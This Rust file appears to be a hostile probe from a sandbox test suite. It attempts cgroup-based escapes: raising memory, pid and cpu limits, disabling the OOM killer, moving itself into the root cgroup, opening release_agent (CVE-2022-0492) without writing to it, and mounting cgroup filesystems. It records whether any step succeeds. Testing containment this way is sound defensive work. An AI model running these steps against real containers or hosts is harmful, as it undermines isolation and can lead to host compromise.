//! Escape the sandbox's resource limits through cgroups: read
//! /proc/self/cgroup, then for every hierarchy (v1 controllers and v2)
//! under /sys/fs/cgroup try to raise memory.limit_in_bytes / memory.max /
//! memory.memsw.limit_in_bytes / pids.max / cpu.cfs_quota_us / cpu.max,
//! disable the OOM killer (memory.oom_control), move ourselves into the
//! root cgroup (cgroup.procs, tasks), create a sibling cgroup, and open
//! release_agent (host code execution, CVE-2022-0492). Then try to mount
//! cgroup v1 (memory, rdma) and cgroup2 afresh.
//!
//! release_agent is only ever opened, never written. Contained: /sys is
//! read-only and host root is not mapped, so every open or write fails,
//! mounts are refused, and /proc/self/cgroup is unchanged. Escaped: any
//! limit write, move, mkdir or mount succeeded. Destructive if mis-run:
//! needs `--armed` and a user namespace.

use std::io::Write as _;

use brig_hostile::{cstr, errno, errno_name, list_dir, open, Args, Report};

fn write_file(path: &str, value: &str) -> Result<(), i32> {
    let fd = open(path, libc::O_WRONLY)?;
    let mut f = std::fs::File::from(fd);
    f.write_all(value.as_bytes())
        .map_err(|e| e.raw_os_error().unwrap_or(libc::EIO))
}

fn main() {
    let args = Args::get();
    brig_hostile::guard_destructive("cgroup_escape", &args);
    let mut report = Report::new("cgroup_escape");
    // SAFETY: getpid has no preconditions.
    let me = unsafe { libc::getpid() }.to_string();
    let own = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    report.note(format!(
        "/proc/self/cgroup: {}",
        own.trim().replace('\n', " | ")
    ));
    match list_dir("/sys/fs/cgroup") {
        Ok(n) if n.is_empty() => {
            report.note("/sys/fs/cgroup is empty: no cgroup filesystem is mounted in the sandbox")
        }
        other => report.note(format!("/sys/fs/cgroup: {:?}", other.map_err(errno_name))),
    }

    // Candidate directories: each hierarchy's root and our own cgroup in it.
    let mut dirs: Vec<(String, bool)> = Vec::new(); // (dir, is_our_own_cgroup)
    for line in own.lines() {
        let mut parts = line.splitn(3, ':');
        let (_, ctrls, path) = (
            parts.next(),
            parts.next().unwrap_or(""),
            parts.next().unwrap_or("/"),
        );
        let mut mounts: Vec<String> = Vec::new();
        if ctrls.is_empty() {
            mounts.push("/sys/fs/cgroup".into());
            mounts.push("/sys/fs/cgroup/unified".into());
        } else {
            for c in ctrls.split(',') {
                mounts.push(format!("/sys/fs/cgroup/{}", c.trim_start_matches("name=")));
            }
            mounts.push(format!("/sys/fs/cgroup/{ctrls}"));
        }
        for m in mounts {
            dirs.push((m.clone(), path == "/"));
            if path != "/" {
                dirs.push((format!("{m}{path}"), true));
            }
        }
    }
    dirs.sort();
    dirs.dedup();

    let limits = [
        ("memory.limit_in_bytes", "-1"),
        ("memory.memsw.limit_in_bytes", "-1"),
        ("memory.max", "max"),
        ("memory.high", "max"),
        ("memory.oom_control", "1"),
        ("memory.swap.max", "max"),
        ("pids.max", "max"),
        ("cpu.cfs_quota_us", "-1"),
        ("cpu.max", "max"),
        ("cgroup.subtree_control", "+memory"),
    ];
    let (mut attempts, mut refused) = (0, 0);
    for (dir, _own_cgroup) in &dirs {
        if std::fs::metadata(dir).is_err() {
            continue;
        }
        for (file, value) in limits {
            let path = format!("{dir}/{file}");
            if std::fs::metadata(&path).is_err() {
                continue;
            }
            attempts += 1;
            match write_file(&path, value) {
                Ok(()) => report.escape(format!("wrote {value} to {path}")),
                Err(e) => {
                    refused += 1;
                    if refused <= 4 {
                        report.note(format!("{path}: {}", errno_name(e)));
                    }
                }
            }
        }
        for file in ["cgroup.procs", "tasks"] {
            let path = format!("{dir}/{file}");
            if std::fs::metadata(&path).is_err() {
                continue;
            }
            attempts += 1;
            match write_file(&path, &me) {
                Ok(()) => {
                    let now = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
                    report.record(
                        now != own,
                        format!(
                            "moved self via {path}; /proc/self/cgroup now {}",
                            now.trim().replace('\n', " | ")
                        ),
                    );
                }
                Err(_) => refused += 1,
            }
        }
        let rel = format!("{dir}/release_agent");
        if std::fs::metadata(&rel).is_ok() {
            attempts += 1;
            match open(&rel, libc::O_WRONLY) {
                Ok(_) => report.escape(format!("opened {rel} for writing (nothing written)")),
                Err(_) => refused += 1,
            }
        }
        let child = format!("{dir}/brig-hostile");
        match std::fs::create_dir(&child) {
            Ok(()) => {
                let _ = std::fs::remove_dir(&child);
                report.escape(format!("created cgroup {child} (removed again)"));
            }
            Err(e) => {
                if e.raw_os_error() != Some(libc::ENOENT) {
                    refused += 1;
                }
            }
        }
    }
    report.note(format!("{attempts} cgroup writes tried, {refused} refused"));

    let mnt = "/tmp/brig-hostile-cg";
    let _ = std::fs::create_dir_all(mnt);
    for (fstype, opts) in [
        ("cgroup", "memory"),
        ("cgroup", "rdma"),
        ("cgroup", "none,name=brighostile"),
        ("cgroup2", ""),
    ] {
        let (src, target, ty, data) = (cstr(fstype), cstr(mnt), cstr(fstype), cstr(opts));
        // SAFETY: NUL-terminated strings.
        let r = unsafe {
            libc::mount(
                src.as_ptr(),
                target.as_ptr(),
                ty.as_ptr(),
                0,
                data.as_ptr().cast(),
            )
        };
        if r == 0 {
            let rel = open(&format!("{mnt}/release_agent"), libc::O_WRONLY).is_ok();
            report.escape(format!(
                "mounted {fstype} -o {opts} (release_agent writable: {rel})"
            ));
            // SAFETY: NUL-terminated path.
            unsafe { libc::umount2(target.as_ptr(), libc::MNT_DETACH) };
        } else {
            report.note(format!("mount {fstype} -o {opts}: {}", errno_name(errno())));
        }
    }
    let after = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    report.record(
        after != own,
        format!(
            "/proc/self/cgroup at the end: {}",
            if after == own { "unchanged" } else { "CHANGED" }
        ),
    );
    report.finish()
}
